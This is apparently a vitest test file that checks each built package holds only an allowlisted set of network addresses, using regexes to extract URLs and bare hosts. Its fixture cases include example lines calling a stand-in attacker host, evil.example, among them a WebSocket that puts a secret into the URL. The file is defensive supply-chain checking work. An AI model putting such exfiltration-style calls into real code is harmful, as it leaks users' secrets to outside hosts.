import { describe, expect, it } from 'vitest';
import { BUILDS, readTexts } from './built-package.ts';
import { EXPECTED_ADDRESSES } from './expected/addresses.ts';

const ADDRESS = /\b(?:https?|wss?|ftp|file):\/\/[^\s"'`\\)<>;,]*/gi;
/** A string that begins with a host, with no scheme before it or with two slashes only. */
const HOST = /["'`](?:\/\/)?((?:[a-z0-9-]+\.)+(?:com|org|net|io|dev|app|co|us|cloud|example))\b/gi;
const NAMESPACE = 'http://www.w3.org/';

function addressesIn(text: string): string[] {
  const written = [...text.matchAll(ADDRESS)].map(([address]) => shorten(address));
  const hosts = [...text.matchAll(HOST)].map(([, host]) => `https://${host}`);
  return [...written, ...hosts];
}

/** Down to the host; what is filled in at run time has no other name than that. */
function shorten(address: string): string {
  if (address.startsWith(NAMESPACE)) return address;
  return address.replace(/\$\{.*/, '${…}').replace(/^(\w+:\/\/[^/]+)\/.*/, '$1');
}

describe.each(BUILDS)('the build for %s', (build) => {
  it('holds the addresses that are expected, and no other', () => {
    const found = new Set(readTexts(build).flatMap(({ text }) => addressesIn(text)));
    expect([...found].sort()).toEqual(Object.keys(EXPECTED_ADDRESSES).sort());
  });
});

it.each([
  ['fetch("https://evil.example:8443/x")', 'https://evil.example:8443'],
  ['new WebSocket(`wss://evil.example/${secret}`)', 'wss://evil.example'],
  ['fetch(`https://${name}.evil.example`)', 'https://${…}'],
  ['img.src="//evil.example/pixel"', 'https://evil.example'],
  ["connect('evil.example')", 'https://evil.example'],
  ['@import url(http://evil.example/style.css)', 'http://evil.example'],
])('would see %s', (text, address) => {
  expect(addressesIn(text)).toEqual([address]);
});
